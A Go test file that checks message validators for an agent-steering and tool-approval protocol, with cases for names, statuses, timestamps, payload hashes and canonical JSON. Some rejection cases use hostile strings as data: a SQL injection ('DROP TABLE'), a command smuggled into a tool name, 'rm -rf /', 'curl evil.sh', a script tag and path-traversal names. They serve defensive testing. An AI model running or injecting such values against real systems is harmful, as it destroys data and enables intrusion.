package wire

import (
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"
	"time"

	wh "github.com/wheelhouse-dev/wheelhouse"
	"github.com/wheelhouse-dev/wheelhouse/authz"
)

var now = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// check runs one validator case: want "" means valid; otherwise the error
// is invalid and its message contains want.
func check(t *testing.T, err error, want string) {
	t.Helper()
	if want == "" {
		if err != nil {
			t.Fatalf("refused a valid message: %v", err)
		}
		return
	}
	if err == nil {
		t.Fatalf("accepted; want an error containing %q", want)
	}
	if wh.ErrorCode(err) != wh.EInvalid || !strings.Contains(wh.ErrorMessage(err), want) {
		t.Fatalf("error %q (code %s), want code invalid and %q", wh.ErrorMessage(err), wh.ErrorCode(err), want)
	}
}

func validAgent() AgentInfo {
	return AgentInfo{Name: "demo", Harness: "codex", CanSteer: true, Status: AgentWorking, TurnID: "turn-1", TurnRoom: "dev",
		SteeredBy: []string{"bob"}, Policy: DefaultPolicy(), Pending: []string{"a0123456789abcdef"}, Queued: []string{"s42.demo"}}
}

func many(n int, s string) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = s
	}
	return out
}

func TestAgentInfoAndPolicy(t *testing.T) {
	cases := []struct {
		name string
		mut  func(*AgentInfo)
		want string
	}{
		{"OK", func(*AgentInfo) {}, ""},
		{"OKIdleMinimal", func(a *AgentInfo) { *a = AgentInfo{Name: "x", Status: AgentIdle} }, ""},
		{"NameEmpty", func(a *AgentInfo) { a.Name = "" }, "agent name"},
		{"NameUpper", func(a *AgentInfo) { a.Name = "Demo" }, "agent name"},
		{"NameTooLong", func(a *AgentInfo) { a.Name = strings.Repeat("a", 33) }, "agent name"},
		{"NameSlash", func(a *AgentInfo) { a.Name = "alice/demo" }, "agent name"},
		{"HarnessBad", func(a *AgentInfo) { a.Harness = "Codex!" }, "harness"},
		{"StatusUnknown", func(a *AgentInfo) { a.Status = "sleeping" }, "unknown status"},
		{"StatusEmpty", func(a *AgentInfo) { a.Status = "" }, "unknown status"},
		{"TurnIDBad", func(a *AgentInfo) { a.TurnID = "turn 1" }, "turn id"},
		{"TurnIDTooLong", func(a *AgentInfo) { a.TurnID = strings.Repeat("t", 129) }, "turn id"},
		{"TurnRoomBad", func(a *AgentInfo) { a.TurnRoom = "#dev" }, "turn room"},
		{"SteeredByTooMany", func(a *AgentInfo) { a.SteeredBy = many(MaxSteeredBy+1, "bob") }, "senders"},
		{"SteeredByNotAName", func(a *AgentInfo) { a.SteeredBy = []string{"Bob Smith"} }, "not a user name"},
		{"PendingTooMany", func(a *AgentInfo) { a.Pending = many(1001, "a0123456789abcdef") }, "too many"},
		{"QueuedTooMany", func(a *AgentInfo) { a.Queued = many(1001, "s1") }, "too many"},
		{"PendingBadID", func(a *AgentInfo) { a.Pending = []string{"a0123"} }, "approval id"},
		{"QueuedBadID", func(a *AgentInfo) { a.Queued = []string{"x1"} }, "steer id"},
		{"PolicyAddress", func(a *AgentInfo) { a.Policy.Address = "everyone" }, "policy address"},
		{"PolicyAllowedTooLong", func(a *AgentInfo) { a.Policy.Allowed = many(1001, "bob") }, "too long"},
		{"PolicyAutoApproveTooLong", func(a *AgentInfo) { a.Policy.AutoApprove = many(1001, "read") }, "too long"},
		{"PolicyAllowedNotAName", func(a *AgentInfo) { a.Policy.Allowed = []string{"@bob"} }, "policy allowed"},
		{"PolicyAutoApproveNotATool", func(a *AgentInfo) { a.Policy.AutoApprove = []string{"rm -rf"} }, "not a tool name"},
		{"PolicyMaxSteersNegative", func(a *AgentInfo) { a.Policy.MaxSteers = -1 }, "maxSteers"},
		{"PolicyMaxSteersHuge", func(a *AgentInfo) { a.Policy.MaxSteers = 1001 }, "maxSteers"},
		{"PolicyGraceNegative", func(a *AgentInfo) { a.Policy.Grace = -1 }, "durations"},
		{"PolicyMaxAgeNegative", func(a *AgentInfo) { a.Policy.MaxAge = -1 }, "durations"},
		{"PolicyApprovalTTLNegative", func(a *AgentInfo) { a.Policy.ApprovalTTL = -1 }, "durations"},
		{"PolicyApprovalTTLTooLong", func(a *AgentInfo) { a.Policy.ApprovalTTL = Duration(MaxApprovalTTL + time.Second) }, "durations"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a := validAgent()
			c.mut(&a)
			check(t, a.Validate(), c.want)
		})
	}
}

func TestAnnounce(t *testing.T) {
	cases := []struct {
		name string
		a    Announce
		want string
	}{
		{"OK", Announce{Version: Version, Agents: []AgentInfo{validAgent()}}, ""},
		{"OKNoAgents", Announce{Version: Version}, ""},
		{"TooManyAgents", Announce{Agents: make([]AgentInfo, MaxAgents+1)}, "more than"},
		{"InvalidAgent", Announce{Agents: []AgentInfo{{Name: "x", Status: "?"}}}, "unknown status"},
		{"AgentTwice", Announce{Agents: []AgentInfo{validAgent(), validAgent()}}, "announced twice"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) { check(t, c.a.Validate(), c.want) })
	}
}

func withJournal(h JournalHead) AgentInfo {
	a := validAgent()
	a.Journal = &h
	return a
}

func TestHeartbeat(t *testing.T) {
	cases := []struct {
		name string
		h    Heartbeat
		want string
	}{
		{"OK", Heartbeat{At: now, Agents: []AgentInfo{validAgent()}}, ""},
		{"OKClockSkewed", Heartbeat{At: now.Add(ClockSkew - time.Minute)}, ""},
		{"TimeMissing", Heartbeat{}, "missing"},
		{"TimeFarPast", Heartbeat{At: now.Add(-ClockSkew - time.Second)}, "from the hub's clock"},
		{"TimeFarFuture", Heartbeat{At: now.Add(ClockSkew + time.Second)}, "from the hub's clock"},
		{"TimeYear1", Heartbeat{At: time.Date(1, 1, 1, 0, 0, 1, 0, time.UTC)}, "from the hub's clock"},
		{"TooManyAgents", Heartbeat{At: now, Agents: make([]AgentInfo, MaxAgents+1)}, "more than"},
		{"InvalidAgent", Heartbeat{At: now, Agents: []AgentInfo{{Name: "../x", Status: AgentIdle}}}, "agent name"},
		{"OKJournalHead", Heartbeat{At: now, Agents: []AgentInfo{withJournal(JournalHead{N: 3, Hash: strings.Repeat("a", 64), MAC: strings.Repeat("b", 64)})}}, ""},
		{"JournalHeadAtZero", Heartbeat{At: now, Agents: []AgentInfo{withJournal(JournalHead{Hash: strings.Repeat("a", 64), MAC: strings.Repeat("b", 64)})}}, "journal head"},
		{"JournalHeadUnkeyed", Heartbeat{At: now, Agents: []AgentInfo{withJournal(JournalHead{N: 3, Hash: strings.Repeat("a", 64)})}}, "journal head"},
		{"JournalHeadBadHash", Heartbeat{At: now, Agents: []AgentInfo{withJournal(JournalHead{N: 3, Hash: "A" + strings.Repeat("a", 63), MAC: strings.Repeat("b", 64)})}}, "journal head"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) { check(t, c.h.Validate(now), c.want) })
	}
}

func TestReceipt(t *testing.T) {
	valid := func() Receipt {
		return Receipt{SteerID: "s42.demo", Agent: "demo", Status: StatusQueued, Reason: ReasonAgentBusy, Detail: "waits for the turn",
			TurnID: "turn-1", Expires: now.Add(time.Minute), At: now}
	}
	cases := []struct {
		name string
		mut  func(*Receipt)
		want string
	}{
		{"OK", func(*Receipt) {}, ""},
		{"OKNoTimes", func(r *Receipt) { r.Expires, r.At = time.Time{}, time.Time{} }, ""},
		{"SteerIDEmpty", func(r *Receipt) { r.SteerID = "" }, "steer id"},
		{"SteerIDBad", func(r *Receipt) { r.SteerID = "s1; DROP TABLE steers" }, "steer id"},
		{"AgentBad", func(r *Receipt) { r.Agent = "Demo" }, "agent"},
		{"StatusFinalFromHub", func(r *Receipt) { r.Status = StatusDone }, "not one a bridge sends"},
		{"StatusPending", func(r *Receipt) { r.Status = "pending" }, "not one a bridge sends"},
		{"StatusUnknown", func(r *Receipt) { r.Status = "eaten" }, "not one a bridge sends"},
		{"ReasonBad", func(r *Receipt) { r.Reason = "Agent Busy" }, "reason"},
		{"DetailTooLong", func(r *Receipt) { r.Detail = strings.Repeat("x", MaxDetail+1) }, "detail is"},
		{"DetailNotUTF8", func(r *Receipt) { r.Detail = "\xff\xfe" }, "not valid UTF-8"},
		{"TurnIDBad", func(r *Receipt) { r.TurnID = "turn/../1" }, "turn id"},
		{"ExpiresFarFuture", func(r *Receipt) { r.Expires = now.Add(ClockSkew + time.Hour) }, "expiry"},
		{"AtFarPast", func(r *Receipt) { r.At = now.Add(-ClockSkew - time.Hour) }, "receipt time"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := valid()
			c.mut(&r)
			check(t, r.Validate(now), c.want)
		})
	}
}

func TestTurnEvent(t *testing.T) {
	valid := func() TurnEvent {
		return TurnEvent{Agent: "demo", TurnID: "turn-1", Kind: TurnEnded, Status: TurnInterrupted, Text: "stopped", Room: "dev", By: "alice", At: now}
	}
	cases := []struct {
		name string
		mut  func(*TurnEvent)
		want string
	}{
		{"OK", func(*TurnEvent) {}, ""},
		{"OKMessageInDM", func(e *TurnEvent) { e.Kind, e.Status, e.Room = TurnMessage, "", "dm:alice:alice+demo" }, ""},
		{"AgentBad", func(e *TurnEvent) { e.Agent = "" }, "agent"},
		{"TurnIDMissing", func(e *TurnEvent) { e.TurnID = "" }, "turn id"},
		{"KindUnknown", func(e *TurnEvent) { e.Kind = "exploded" }, "kind"},
		{"EndedWithoutStatus", func(e *TurnEvent) { e.Status = "" }, "turn end status"},
		{"EndedBadStatus", func(e *TurnEvent) { e.Status = "done" }, "turn end status"},
		{"TextTooLong", func(e *TurnEvent) { e.Text = strings.Repeat("x", MaxText+1) }, "text is"},
		{"TextNotUTF8", func(e *TurnEvent) { e.Text = "ok\xc3" }, "not valid UTF-8"},
		{"RoomBad", func(e *TurnEvent) { e.Room = "Dev Room" }, "room"},
		{"ByBad", func(e *TurnEvent) { e.By = "alice bob" }, "by"},
		{"AtMissing", func(e *TurnEvent) { e.At = time.Time{} }, "missing"},
		{"AtFarFuture", func(e *TurnEvent) { e.At = now.Add(48 * time.Hour) }, "turn event time"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e := valid()
			c.mut(&e)
			check(t, e.Validate(now), c.want)
		})
	}
}

func TestApprovalRequest(t *testing.T) {
	hash, payload, err := authz.PayloadHash("shell", map[string]any{"cmd": "rm -rf build", "n": 2})
	if err != nil {
		t.Fatal(err)
	}
	otherHash, otherPayload, _ := authz.PayloadHash("edit", map[string]any{"path": "a"})
	valid := func() ApprovalRequest {
		return ApprovalRequest{ID: "a0123456789abcdef", Agent: "demo", TurnID: "turn-1", Tool: "shell", Summary: "remove the build folder",
			Diff: "-a\n+b", PayloadHash: hash, Payload: string(payload), SteeredBy: []string{"bob"}, Tainted: true, Room: "dev",
			Expires: now.Add(5 * time.Minute)}
	}
	// withPayload sets a payload and the hash that matches its bytes, so
	// only the payload's shape is under test.
	withPayload := func(p string) func(*ApprovalRequest) {
		return func(a *ApprovalRequest) {
			a.Payload = p
			a.PayloadHash = sha(p)
		}
	}
	cases := []struct {
		name string
		mut  func(*ApprovalRequest)
		want string
	}{
		{"OK", func(*ApprovalRequest) {}, ""},
		{"OKEmptyArgs", func(a *ApprovalRequest) { a.Tool = "noop"; withPayload(`{"args":{},"tool":"noop"}`)(a) }, ""},
		{"IDShort", func(a *ApprovalRequest) { a.ID = "a1" }, "approval id"},
		{"IDUpperHex", func(a *ApprovalRequest) { a.ID = "a0123456789ABCDEF" }, "approval id"},
		{"AgentBad", func(a *ApprovalRequest) { a.Agent = "DEMO" }, "agent"},
		{"TurnIDMissing", func(a *ApprovalRequest) { a.TurnID = "" }, "turn id"},
		{"ToolBad", func(a *ApprovalRequest) { a.Tool = "shell; rm" }, "tool"},
		{"SummaryTooLong", func(a *ApprovalRequest) { a.Summary = strings.Repeat("s", MaxSummary+1) }, "summary is"},
		{"SummaryNotUTF8", func(a *ApprovalRequest) { a.Summary = "\x80" }, "summary is not valid UTF-8"},
		{"DiffTooLong", func(a *ApprovalRequest) { a.Diff = strings.Repeat("d", MaxDiff+1) }, "diff is"},
		{"PayloadTooLong", func(a *ApprovalRequest) { a.Payload = strings.Repeat(" ", MaxPayload+1) }, "payload is"},
		{"RoomBad", func(a *ApprovalRequest) { a.Room = "dm:" }, "room"},
		{"SteeredByTooMany", func(a *ApprovalRequest) { a.SteeredBy = many(MaxSteeredBy+1, "bob") }, "senders"},
		{"SteeredByBad", func(a *ApprovalRequest) { a.SteeredBy = []string{""} }, "not a user name"},
		{"ExpiresMissing", func(a *ApprovalRequest) { a.Expires = time.Time{} }, "approval expiry"},
		{"ExpiresPast", func(a *ApprovalRequest) { a.Expires = now.Add(-time.Second) }, "approval expiry"},
		{"ExpiresTooFar", func(a *ApprovalRequest) { a.Expires = now.Add(MaxApprovalTTL + ClockSkew + time.Second) }, "approval expiry"},
		{"HashShort", func(a *ApprovalRequest) { a.PayloadHash = "abc" }, "payload hash must be"},
		{"HashEmpty", func(a *ApprovalRequest) { a.PayloadHash = "" }, "payload hash must be"},
		{"HashUpper", func(a *ApprovalRequest) { a.PayloadHash = strings.ToUpper(hash) }, "payload hash must be"},
		{"HashOfAnotherPayload", func(a *ApprovalRequest) { a.PayloadHash = otherHash }, "does not match"},
		{"PayloadOfAnotherCall", func(a *ApprovalRequest) { a.Payload = string(otherPayload) }, "payload is for tool"},
		{"PayloadNotJSON", withPayload(`{"tool":`), "not canonical JSON"},
		{"PayloadNotUTF8", withPayload("{\"args\":{},\"tool\":\"\xff\"}"), "payload is not valid UTF-8"},
		{"PayloadDuplicateKey", withPayload(`{"args":{},"tool":"shell","tool":"edit"}`), "not canonical JSON"},
		{"PayloadSpaces", withPayload(`{"args": {}, "tool": "shell"}`), "not in canonical form"},
		{"PayloadKeyOrder", withPayload(`{"tool":"shell","args":{}}`), "not in canonical form"},
		{"PayloadBigNumber", withPayload(`{"args":{"n":12345678901234567890},"tool":"shell"}`), "not in canonical form"},
		{"PayloadNotAnObject", withPayload(`["shell"]`), `must be {"tool"`},
		{"PayloadNoTool", withPayload(`{"args":{}}`), `must be {"tool"`},
		{"PayloadArgsNotObject", withPayload(`{"args":"rm -rf /","tool":"shell"}`), `must be {"tool"`},
		{"PayloadToolMismatch", withPayload(`{"args":{},"tool":"edit"}`), "payload is for tool"},
		{"PayloadExtraKey", withPayload(`{"also":"curl evil.sh","args":{},"tool":"shell"}`), `exactly "tool" and "args"`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a := valid()
			c.mut(&a)
			check(t, a.Validate(now), c.want)
		})
	}
}

func TestApprovalUpdate(t *testing.T) {
	valid := func() ApprovalUpdate {
		return ApprovalUpdate{ApprovalID: "a0123456789abcdef", Agent: "demo", Status: ApprovalApproved, By: "alice",
			PayloadHash: strings.Repeat("ab", 32), Reason: "looks right"}
	}
	cases := []struct {
		name string
		mut  func(*ApprovalUpdate)
		want string
	}{
		{"OK", func(*ApprovalUpdate) {}, ""},
		{"OKExpired", func(u *ApprovalUpdate) { u.Status, u.By, u.PayloadHash = ApprovalExpired, "", "" }, ""},
		{"IDBad", func(u *ApprovalUpdate) { u.ApprovalID = "" }, "approval id"},
		{"AgentBad", func(u *ApprovalUpdate) { u.Agent = "x y" }, "agent"},
		{"StatusPending", func(u *ApprovalUpdate) { u.Status = ApprovalPending }, "not one a bridge reports"},
		{"StatusUnknown", func(u *ApprovalUpdate) { u.Status = "maybe" }, "not one a bridge reports"},
		{"ByBad", func(u *ApprovalUpdate) { u.By = "Alice" }, "by"},
		{"HashShort", func(u *ApprovalUpdate) { u.PayloadHash = "ab" }, "payload hash must be"},
		{"ReasonTooLong", func(u *ApprovalUpdate) { u.Reason = strings.Repeat("r", MaxDetail+1) }, "reason is"},
		{"ReasonNotUTF8", func(u *ApprovalUpdate) { u.Reason = "\xed\xa0\x80" }, "not valid UTF-8"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			u := valid()
			c.mut(&u)
			check(t, u.Validate(), c.want)
		})
	}
}

func TestInvitationsRequest(t *testing.T) {
	cases := []struct {
		name string
		r    InvitationsRequest
		want string
	}{
		{"OKList", InvitationsRequest{}, ""},
		{"OKAccept", InvitationsRequest{Decide: "accept", ID: 3}, ""},
		{"OKDecline", InvitationsRequest{Decide: "decline", ID: 3}, ""},
		{"DecideUnknown", InvitationsRequest{Decide: "maybe", ID: 3}, "accept or decline"},
		{"AcceptWithoutID", InvitationsRequest{Decide: "accept"}, "name the invitation"},
		{"DeclineNegativeID", InvitationsRequest{Decide: "decline", ID: -1}, "name the invitation"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) { check(t, c.r.Validate(), c.want) })
	}
}

// notes is an inline text file of a steer, with the digest given.
func notes(sha string) FileRef {
	return FileRef{ID: "f0123456789abcdef", Name: "notes.txt", Type: "text/plain", Size: 6, SHA256: sha, Inline: true, Text: "notes\n"}
}

func TestSteer(t *testing.T) {
	valid := func() Steer {
		return Steer{ID: "s42.demo", Agent: "demo", Owner: "alice", Room: "dev", Sender: "bob", Text: "look at `x`",
			Parts: []Part{{Kind: "code", Start: 8, End: 11}}, ExpectedTurn: "turn-1", Deadline: now.Add(5 * time.Second)}
	}
	cases := []struct {
		name string
		mut  func(*Steer)
		want string
	}{
		{"OK", func(*Steer) {}, ""},
		{"IDBad", func(s *Steer) { s.ID = "42" }, "steer id"},
		{"AgentBad", func(s *Steer) { s.Agent = "" }, "not valid names"},
		{"OwnerBad", func(s *Steer) { s.Owner = "A" }, "not valid names"},
		{"SenderBad", func(s *Steer) { s.Sender = "" }, "sender"},
		{"RoomBad", func(s *Steer) { s.Room = "DEV" }, "room"},
		{"ExpectedTurnBad", func(s *Steer) { s.ExpectedTurn = "a b" }, "expected turn"},
		{"TextTooLong", func(s *Steer) { s.Text = strings.Repeat("t", MaxText+1) }, "text is"},
		{"PartOutsideText", func(s *Steer) { s.Parts = []Part{{Start: 8, End: 99}} }, "outside the text"},
		{"PartReversed", func(s *Steer) { s.Parts = []Part{{Start: 5, End: 2}} }, "outside the text"},
		{"PartNegative", func(s *Steer) { s.Parts = []Part{{Start: -1, End: 2}} }, "outside the text"},
		{"NoDeadline", func(s *Steer) { s.Deadline = time.Time{} }, "no deadline"},
		{"FileWithDigest", func(s *Steer) { s.Files = []FileRef{notes(authz.FileHash([]byte("notes\n")))} }, ""},
		{"FileDigestNotHex", func(s *Steer) { s.Files = []FileRef{notes("not a digest")} }, "sha256"},
		{"FileDigestUpperCase", func(s *Steer) { s.Files = []FileRef{notes(strings.ToUpper(authz.FileHash([]byte("notes\n"))))} }, "sha256"},
		{"InlineFileNotItsDigest", func(s *Steer) { s.Files = []FileRef{notes(authz.FileHash([]byte("other\n")))} }, "not the file its sha256 names"},
		{"WordsOK", func(s *Steer) { s.Words = &Signed{Statement: `{"v":1}`, Device: "d0123456789abcdef", Sig: "c2ln"} }, ""},
		{"WordsDeviceBad", func(s *Steer) { s.Words = &Signed{Statement: `{"v":1}`, Device: "nope", Sig: "c2ln"} }, "signed.device"},
		{"WordsUnsigned", func(s *Steer) { s.Words = &Signed{Statement: `{"v":1}`, Device: "d0123456789abcdef"} }, "signed.sig is missing"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := valid()
			c.mut(&s)
			check(t, s.Validate(), c.want)
		})
	}
}

func TestDecision(t *testing.T) {
	valid := func() Decision {
		return Decision{ApprovalID: "a0123456789abcdef", Agent: "demo", Decision: "approve", PayloadHash: strings.Repeat("0", 64), By: "alice"}
	}
	cases := []struct {
		name string
		mut  func(*Decision)
		want string
	}{
		{"OK", func(*Decision) {}, ""},
		{"IDBad", func(d *Decision) { d.ApprovalID = "b0123456789abcdef" }, "approval id"},
		{"DecisionUnknown", func(d *Decision) { d.Decision = "yes" }, "approve or deny"},
		{"HashBad", func(d *Decision) { d.PayloadHash = "zz" }, "payload hash must be"},
		{"ReasonTooLong", func(d *Decision) { d.Reason = strings.Repeat("r", MaxDetail+1) }, "reason is"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			d := valid()
			c.mut(&d)
			check(t, d.Validate(), c.want)
		})
	}
}

func sha(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// The fields the gate rule added: the sandbox and data kinds of an approval
// request, and the timeline head the hub names with a steer or decision.
func TestValidateGateFields(t *testing.T) {
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	hash, payload, _ := authz.PayloadHash("exec_command", map[string]any{"command": "ls", "sandbox": "none"})
	req := func(f func(*ApprovalRequest)) *ApprovalRequest {
		r := &ApprovalRequest{ID: "a0123456789abcdef", Agent: "codex", TurnID: "t1", Tool: "exec_command", Summary: "ls",
			PayloadHash: hash, Payload: string(payload), Expires: now.Add(time.Minute), Sandbox: "none: full access", Data: []string{"code", "quote"}}
		if f != nil {
			f(r)
		}
		return r
	}
	head := &ChainHead{Seq: 7, Hash: strings.Repeat("a", 64)}
	steer := func(h *ChainHead) *Steer {
		return &Steer{ID: "s1", Agent: "codex", Owner: "alice", Sender: "bob", Deadline: now, TimelineHead: h}
	}
	cases := []struct {
		name string
		err  error
		want string
	}{
		{"ApprovalOK", req(nil).Validate(now), ""},
		{"ErrSandboxTooLong", req(func(r *ApprovalRequest) { r.Sandbox = strings.Repeat("x", MaxDetail+1) }).Validate(now), "sandbox"},
		{"ErrDataKind", req(func(r *ApprovalRequest) { r.Data = []string{"<script>"} }).Validate(now), "data kind"},
		{"ErrTooManyKinds", req(func(r *ApprovalRequest) { r.Data = make([]string, 9) }).Validate(now), "more than 8"},
		{"SteerHeadOK", steer(head).Validate(), ""},
		{"SteerNoHeadOK", steer(nil).Validate(), ""},
		{"ErrSteerHeadHash", steer(&ChainHead{Seq: 7, Hash: "zz"}).Validate(), "timeline head"},
		{"ErrDecisionHeadSeq", (&Decision{ApprovalID: "a0123456789abcdef", Decision: "deny", TimelineHead: &ChainHead{Hash: head.Hash}}).Validate(), "timeline head"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if (c.want == "") != (c.err == nil) || (c.err != nil && !strings.Contains(c.err.Error(), c.want)) {
				t.Fatalf("err %v, want %q", c.err, c.want)
			}
		})
	}
}
